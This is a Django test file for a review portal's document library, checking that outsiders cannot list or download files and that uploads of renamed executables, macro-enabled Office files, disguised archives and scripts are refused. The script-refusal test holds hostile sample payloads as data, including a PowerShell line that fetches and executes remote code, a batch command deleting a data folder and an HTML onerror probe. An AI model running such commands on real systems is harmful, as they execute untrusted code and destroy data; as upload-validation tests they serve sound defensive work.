"""Nobody outside a review can list or download its documents, whatever they try."""

from importlib import import_module

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from reviews import services
from reviews.models import AuditEvent, Document, DocumentVersion, Role
from tests import files
from tests.factories import MembershipFactory

PDF = b"%PDF-1.4 SECRET-CONTENT-7731"


@pytest.fixture(autouse=True)
def _on_both_storages(storage):
    """Every case here runs on the local folder and on the S3-compatible store."""
    return storage


@pytest.fixture
def document(world):
    (version,) = services.upload_documents(
        world.review,
        files=[SimpleUploadedFile("Audit of child protection plans.pdf", PDF)],
        by=world.people[Role.COUNCIL_ORGANISER],
        category="audit",
    )
    return version


@pytest.fixture
def intruders(world):
    return {
        "peer of another review": MembershipFactory(role=Role.PEER).user,
        "council contact of another council": MembershipFactory(role=Role.COUNCIL_SPONSOR).user,
    }


@pytest.mark.parametrize("who", ["peer of another review", "council contact of another council", "anonymous"])
def test_outsiders_cannot_list_or_download_documents(client, world, document, intruders, who):
    if who != "anonymous":
        client.force_login(intruders[who])
    urls = [
        reverse("reviews:library", args=[world.review.pk]),
        document.document.get_absolute_url(),
        document.get_download_url(),
    ]
    for url in urls:
        response = client.get(url)
        expected = 302 if who == "anonymous" else 404
        assert response.status_code == expected, url
        assert b"SECRET-CONTENT-7731" not in response.content
        assert b"Audit of child protection plans" not in response.content
    assert not AuditEvent.objects.filter(action="document_downloaded").exists()


def test_a_document_of_one_review_cannot_be_fetched_through_another(client, world, document, intruders):
    other = MembershipFactory(role=Role.PEER)
    client.force_login(other.user)
    url = reverse("reviews:document-download", args=[other.review.pk, document.document_id, document.pk])
    assert client.get(url).status_code == 404


def test_a_renamed_executable_is_refused(client, world):
    client.force_login(world.people[Role.COUNCIL_ORGANISER])
    exe = SimpleUploadedFile(
        "Performance report.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" * 50
    )
    response = client.post(
        reverse("reviews:document-upload", args=[world.review.pk]),
        {"files": [exe], "category": "performance"},
    )
    assert "Performance report.pdf is not a type we accept" in response.content.decode()
    assert not Document.objects.exists()


def test_the_stored_file_name_reveals_nothing(document):
    assert "Audit" not in document.file.name
    assert document.file.name.startswith(f"reviews/{document.document.review_id}/")


def _upload(client, world, name, content):
    client.force_login(world.people[Role.COUNCIL_ORGANISER])
    response = client.post(
        reverse("reviews:document-upload", args=[world.review.pk]),
        {"files": [SimpleUploadedFile(name, content)], "category": "other"},
    )
    return " ".join(response.context["form"].errors["files"]) if response.status_code == 200 else ""


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("Minutes.docm", files.docm()),
        ("Minutes.docx", files.ooxml(extra=[("word/vbaProject.bin", b"VBA")])),
        ("Minutes.docx", files.ooxml(main_type="application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("Budget.xlsx", files.ooxml("xl", extra=[("xl/vbaProject.bin", b"VBA")])),
        ("Minutes.doc", files.word_97(macros=True)),
        ("Budget.xls", files.excel_97(macros=True)),
        ("Slides.ppt", files.powerpoint_97(macros=True)),
        ("Minutes.odt", files.odf(extra=[("Basic/Standard/Module1.xml", "<script:module/>")])),
    ],
)
def test_office_files_with_macros_are_refused(client, world, name, content):
    errors = _upload(client, world, name, content)
    assert f"{name} contains macros, which can run programs" in errors
    assert not Document.objects.exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (
            "bundle.zip",
            files.zip_of([("mimetype", "application/vnd.oasis.opendocument.text"), ("setup.exe", b"MZ\x90")]),
        ),
        ("bundle.docx", files.zip_of([("[Content_Types].xml", "<Types/>"), ("word/setup.exe", b"MZ\x90")])),
        ("Minutes.doc", files.installer()),
    ],
)
def test_archives_that_are_not_genuine_documents_are_refused(client, world, name, content):
    errors = _upload(client, world, name, content)
    assert f"{name} is not a type we accept" in errors
    assert not Document.objects.exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("update.vbs", b'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "cmd /c calc"\r\n'),
        ("update.js", b"new ActiveXObject('WScript.Shell').Run('calc');\n"),
        ("update.ps1", b"Invoke-WebRequest https://example.invalid/x | Invoke-Expression\n"),
        ("update.bat", b"@echo off\r\ndel /q C:\\data\r\n"),
        ("update.py", b"import os\nos.system('calc')\n"),
        ("update.hta", b'Welcome\n<HTA:APPLICATION /><body onload="run()">'),
        ("update.html", b"Hello\n<img src=x onerror=alert(1)>\n"),
    ],
)
def test_scripts_are_refused_by_their_extension_whatever_they_contain(client, world, name, content):
    errors = _upload(client, world, name, content)
    assert f"{name} is not a type we accept: text is accepted only as a .txt or .csv file" in errors
    assert not Document.objects.exists()


def _download(client, version):
    response = client.get(version.get_download_url())
    assert response.status_code == 200
    return response


def test_a_file_is_stored_and_downloaded_under_the_type_its_content_shows(client, world):
    (version,) = services.upload_documents(
        world.review,
        files=[SimpleUploadedFile("progress.html", files.PDF_HTML_POLYGLOT)],
        by=world.people[Role.COUNCIL_ORGANISER],
        category="other",
    )
    client.force_login(world.people[Role.ANALYST_PEER])
    response = _download(client, version)
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="progress.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    detail = client.get(version.document.get_absolute_url()).content.decode()
    assert "progress.pdf" in detail
    assert "progress.html" not in detail


@pytest.mark.parametrize(
    ("content", "content_type", "extension"),
    [
        (
            files.ooxml("word"),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            "docx",
        ),
        (files.ooxml("xl"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"),
        (
            files.ooxml("ppt"),
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
            "pptx",
        ),
        (files.odf("text"), "application/vnd.oasis.opendocument.text", "odt"),
        (files.odf("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet", "ods"),
        (files.word_97(), "application/msword", "doc"),
        (files.excel_97(), "application/vnd.ms-excel", "xls"),
        (files.powerpoint_97(), "application/vnd.ms-powerpoint", "ppt"),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 32, "image/png", "png"),
    ],
)
def test_genuine_documents_are_accepted_and_named_after_their_type(
    client, world, content, content_type, extension
):
    (version,) = services.upload_documents(
        world.review,
        files=[SimpleUploadedFile("Evidence pack.pdf", content)],
        by=world.people[Role.COUNCIL_ORGANISER],
        category="other",
    )
    client.force_login(world.people[Role.ANALYST_PEER])
    response = _download(client, version)
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="Evidence pack.{extension}"'


def test_files_stored_before_names_followed_content_download_under_their_detected_type(
    client, world, document
):
    """Rows saved before the change: the migration renames them, and reads pre-2007 Office files to type them."""
    from django.apps import apps
    from django.core.files.base import ContentFile

    name_by_type = import_module("reviews.migrations.0007_document_names_from_content").name_by_type
    DocumentVersion.objects.filter(pk=document.pk).update(original_name="progress.html")
    old_word = DocumentVersion.objects.create(
        document=document.document, number=2, file=ContentFile(files.word_97(), name="x"),
        original_name="Minutes.rtf", content_type="application/x-ole-storage", size=1, sha256="0" * 64,
    )  # fmt: skip
    name_by_type(apps, None)
    client.force_login(world.people[Role.ANALYST_PEER])
    pdf = _download(client, document)
    assert (pdf["Content-Type"], pdf["Content-Disposition"]) == (
        "application/pdf", 'attachment; filename="progress.pdf"'
    )  # fmt: skip
    word = _download(client, old_word)
    assert (word["Content-Type"], word["Content-Disposition"]) == (
        "application/msword", 'attachment; filename="Minutes.doc"'
    )  # fmt: skip
